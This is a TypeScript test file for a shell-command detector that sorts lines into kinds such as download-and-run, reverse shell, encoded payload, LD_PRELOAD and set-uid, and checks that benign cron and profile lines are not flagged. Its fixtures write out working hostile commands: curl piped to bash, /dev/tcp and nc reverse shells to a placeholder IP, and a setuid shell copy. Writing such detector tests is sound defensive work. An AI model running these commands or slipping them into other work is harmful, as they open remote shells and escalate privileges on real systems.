import assert from "node:assert/strict";
import { describe, it } from "node:test";
import fc from "fast-check";
import { suspicion } from "./suspicious.ts";

describe("suspicious commands", () => {
  const named = {
    "download-and-run": [
      "curl -fsSL http://203.0.113.9/x | bash",
      "wget -qO- http://x/a.sh|sh",
      'bash -c "$(curl -s http://x)"',
      "source <(curl -s http://x)",
    ],
    "reverse-shell": [
      "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
      "nc 203.0.113.9 4444 -e /bin/sh",
      "socat TCP:203.0.113.9:1 EXEC:/bin/sh",
      "python3 -c 'import socket,os'",
    ],
    encoded: ["echo aGk= | base64 -d | sh", 'eval "$(echo aGk= | base64 --decode)"'],
    preload: ["export LD_PRELOAD=/usr/lib/x.so", "LD_PRELOAD=/lib/a.so /bin/ls"],
    temporary: ["/tmp/.x/run", "cd / && /dev/shm/a", "sh /var/tmp/a.sh", "if true; then /tmp/x; fi"],
    hidden: ["/usr/bin/.sshd -f", "python3 /opt/.a.py"],
    "set-uid": ["cp /bin/sh /opt/s; chmod 4755 /opt/s", "chmod u+s /bin/dash"],
  };
  for (const [kind, lines] of Object.entries(named)) {
    it(`of the kind ${kind} are told`, () => {
      for (const line of lines) assert.ok(suspicion(line), line);
      assert.equal(suspicion(lines[0] ?? ""), kind);
    });
  }

  it("do not come from everyday scripts", () => {
    for (const line of [
      "# curl http://x | sh",
      "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
      "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
      "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
      "curl -fsS https://example.jp/health > /dev/null",
      "find /tmp -mtime +7 -delete",
      "tar czf /tmp/backup.tgz /etc",
      ". /etc/profile",
      "if [ -f ~/.bashrc ]; then . ~/.bashrc; fi",
      'if [ -f "$HOME/.bashrc" ]; then . "$HOME/.bashrc"; fi',
      "export LD_LIBRARY_PATH=/opt/x/lib",
      "chmod 644 /run/motd.dynamic",
      "chmod 0755 /var/run/x",
      'alias ls="ls --color=auto"',
      "exec /usr/bin/nc -l 80",
      "[ -f /root/.bashrc ] && . /root/.bashrc",
    ]) {
      assert.equal(suspicion(line), undefined, line);
    }
  });

  it("never throw", () => {
    fc.assert(fc.property(fc.string(), (line) => void suspicion(line)));
    for (const piece of ["curl ", "sh -a ", "/a", "| ", "nc ", "then ", ". "]) suspicion(piece.repeat(100_000));
  });
});
